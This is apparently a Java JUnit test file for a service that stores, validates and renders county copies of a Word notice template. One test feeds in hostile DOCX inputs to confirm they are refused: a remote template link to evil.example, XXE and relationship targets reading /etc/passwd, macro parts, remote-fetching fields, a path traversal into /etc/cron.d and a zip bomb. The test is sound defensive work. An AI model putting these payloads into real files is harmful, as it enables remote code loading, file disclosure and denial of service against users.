package io.shoutu.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.shoutu.api.Actor;
import io.shoutu.api.Problem;
import io.shoutu.api.documents.Documents;
import io.shoutu.api.documents.Format;
import io.shoutu.api.journal.Entry;
import io.shoutu.commons.testing.House;
import io.shoutu.documents.store.TemplateStore;
import io.shoutu.documents.word.Parcel;
import io.shoutu.documents.word.Remark;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The life of a template: the factory's, the county's copies, what is refused, what is in force. */
class TemplatesTest {
    private static final String CODE = "documents.notice";
    private static final Instant AS_OF = Instant.parse("2026-11-22T01:02:03Z");
    private static final Actor ADMIN = House.actor("admin", "admin");
    private final House house = House.with("documents", TemplateStore.class);
    private final Templates templates = new Templates(new TemplateStore(house.sql(), house.schema("documents")), house.work(), house.journal(), house.clock(), Settings.USUAL);

    @BeforeEach
    void theNoticeIsThere() {
        templates.bind(new Notice());
    }

    @AfterEach
    void leave() {
        house.close();
    }

    private static Map<String, byte[]> parts() throws IOException {
        try (InputStream in = new Notice().docx()) {
            return Parcel.open(in.readAllBytes(), 1 << 20, 1 << 24);
        }
    }

    /** The notice with one part changed, or added. */
    private static byte[] with(String part, String from, String to) throws IOException {
        Map<String, byte[]> parts = parts();
        String old = parts.containsKey(part) ? new String(parts.get(part), StandardCharsets.UTF_8) : from;
        assertThat(old).contains(from);
        parts.put(part, old.replace(from, to).getBytes(StandardCharsets.UTF_8));
        return Parcel.pack(parts);
    }

    private static byte[] body(String from, String to) throws IOException {
        return with("word/document.xml", from, to);
    }

    private String refused(byte[] docx) {
        try {
            templates.upload(CODE, docx, ADMIN);
            return "taken";
        } catch (Problem.Invalid e) {
            return e.code();
        }
    }

    @Test
    void aCountysCopyIsUsedOnceItIsInForceAndTheFactorysComesBack() throws IOException {
        byte[] copy = body("{{signer}}", "{{署名}}（印章）");
        Templates.Upload upload = templates.upload(CODE, copy, ADMIN);
        assertThat(upload.usable()).isTrue();
        assertThat(upload.copy().version()).isEqualTo(1);
        Documents.Rendered before = templates.render(CODE, new Notice().sample(), Format.DOCX, AS_OF);
        assertThat(before.templateVersion()).isEqualTo("出厂-1");
        assertThat(templates.putInForce(CODE, 1, ADMIN).inForce()).isEqualTo(1);
        Documents.Rendered after = templates.render(CODE, new Notice().sample(), Format.DOCX, AS_OF);
        assertThat(after.templateVersion()).isEqualTo("县-1");
        assertThat(after.templateSha256()).isEqualTo(upload.copy().sha256()).isNotEqualTo(before.templateSha256());
        assertThat(after.modelSha256()).isEqualTo(before.modelSha256());
        assertThat(text(after.content())).contains("安澜县安全生产委员会（印章）");
        templates.putInForce(CODE, 1, ADMIN);
        templates.putInForce(CODE, 0, ADMIN);
        assertThat(templates.render(CODE, new Notice().sample(), Format.DOCX, AS_OF).content()).isEqualTo(before.content());
        assertThat(house.told("documents.*")).extracting(Entry::name, e -> e.text("version")).containsExactly(
                org.assertj.core.groups.Tuple.tuple("documents.template-uploaded", "1"), org.assertj.core.groups.Tuple.tuple("documents.template-activated", "1"),
                org.assertj.core.groups.Tuple.tuple("documents.template-activated", "0"));
    }

    private static String text(byte[] docx) {
        return new String(Parcel.open(docx, 1 << 24, 1 << 26).get("word/document.xml"), StandardCharsets.UTF_8).replaceAll("<[^>]*>", "");
    }

    @Test
    void theSameCopyTwiceIsOneVersion() throws IOException {
        byte[] copy = body("{{signer}}", "{{署名}}");
        assertThat(templates.upload(CODE, copy, ADMIN).copy()).isEqualTo(templates.upload(CODE, copy, ADMIN).copy());
        assertThat(templates.get(CODE).copies()).hasSize(1);
    }

    @Test
    void theProofReaderNamesUnknownAndMissingTagsInChineseAndKeepsThemOutOfForce() throws IOException {
        Templates.Upload upload = templates.upload(CODE, body("{{title}}", "{{titel}}{{+evil}}{{@signer}}{{paragraphs}}"), ADMIN);
        assertThat(upload.usable()).isFalse();
        assertThat(upload.remarks()).filteredOn(Remark::error).extracting(Remark::text).anySatisfy(t -> assertThat(t).contains("未知标签 {{titel}}", "是不是 {{title}}"))
                .anySatisfy(t -> assertThat(t).contains("{{+evil}}")).anySatisfy(t -> assertThat(t).contains("不是图片")).anySatisfy(t -> assertThat(t).contains("缺少标签 {{title}}（标题）"))
                .anySatisfy(t -> assertThat(t).contains("列表 {{paragraphs}} 应放在表格中"));
        assertThatThrownBy(() -> templates.putInForce(CODE, 1, ADMIN)).isInstanceOf(Problem.IllegalMove.class).hasMessageContaining("未知标签");
        assertThatThrownBy(() -> templates.preview(CODE, 1, Format.DOCX)).isInstanceOf(Problem.IllegalMove.class);
    }

    @Test
    void whatReachesOutsideOrRunsIsRefused() throws IOException {
        String rels = "word/_rels/document.xml.rels";
        String link = "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        assertThat(refused(with(rels, "</Relationships>", link))).isEqualTo("template-external");
        assertThat(refused(with(rels, "</Relationships>", link.replace("TargetMode=\"External\"", "").replace("http://evil.example/t.dotm", "file:///etc/passwd")))).isEqualTo("template-external");
        assertThat(refused(with(rels, "</Relationships>", link.replace("attachedTemplate", "oleObject").replace(" TargetMode=\"External\"", "").replace("http://evil.example/t.dotm", "embeddings/a.xml"))))
                .isEqualTo("template-external");
        assertThat(refused(with("word/vbaProject.bin", "x", "x"))).isEqualTo("template-macro");
        assertThat(refused(with("[Content_Types].xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml"))).isEqualTo("template-macro");
        assertThat(refused(with("word/media/a.svg", "x", "x"))).isEqualTo("template-part");
        assertThat(refused(body("<w:body>", "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://evil.example/x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")))
                .isEqualTo("template-field");
        assertThat(refused(body("<w:body>", "<w:body><w:altChunk/>"))).isEqualTo("template-external");
        assertThat(refused(body("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"))).isEqualTo("file-xml");
        assertThat(refused("PK no".getBytes(StandardCharsets.UTF_8))).isEqualTo("file-no-zip");
        assertThat(refused(new byte[6_000_000])).isEqualTo("file-too-large");
        assertThat(refused(zip("../../etc/cron.d/x", new byte[1]))).isEqualTo("file-part-name");
        assertThat(refused(zip("word/document.xml", new byte[200_000_000]))).isEqualTo("file-zip-bomb");
        assertThat(templates.get(CODE).copies()).isEmpty();
        assertThat(house.told("documents.*")).isEmpty();
    }

    private static byte[] zip(String name, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        }
        return out.toByteArray();
    }

    @Test
    void aValueWithoutATagIsRefusedAndAnUnknownTemplateToo() {
        assertThatThrownBy(() -> templates.render(CODE, Map.of("tilte", "x"), Format.DOCX, AS_OF)).isInstanceOfSatisfying(Problem.Invalid.class, p -> assertThat(p.field()).isEqualTo("tilte"));
        assertThatThrownBy(() -> templates.render(CODE, Map.of("title", List.of()), Format.DOCX, AS_OF)).isInstanceOfSatisfying(Problem.Invalid.class, p -> assertThat(p.code()).isEqualTo("model-tag"));
        assertThatThrownBy(() -> templates.render("documents.nothing", Map.of(), Format.DOCX, AS_OF)).isInstanceOf(Problem.NotFound.class);
    }

    @Test
    void eightAtOnceMakeTheSameDocumentsAsOneAfterTheOther() throws Exception {
        List<Map<String, Object>> models = new ArrayList<>();
        List<String> alone = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            Map<String, Object> model = new HashMap<>(new Notice().sample());
            model.put("title", "第" + i + "号通知" + "鑫垚淼曌丁戊己庚".charAt(i));
            models.add(model);
            alone.add(templates.render(CODE, model, Format.PDF, AS_OF).sha256());
        }
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Callable<String>> jobs = new ArrayList<>();
            for (int round = 0; round < 2; round++) {
                models.forEach(m -> jobs.add(() -> templates.render(CODE, m, Format.PDF, AS_OF).sha256()));
            }
            Set<String> together = new HashSet<>();
            for (Future<String> job : pool.invokeAll(jobs)) {
                together.add(job.get());
            }
            assertThat(together).containsExactlyInAnyOrderElementsOf(alone);
        } finally {
            pool.shutdownNow();
        }
    }
}
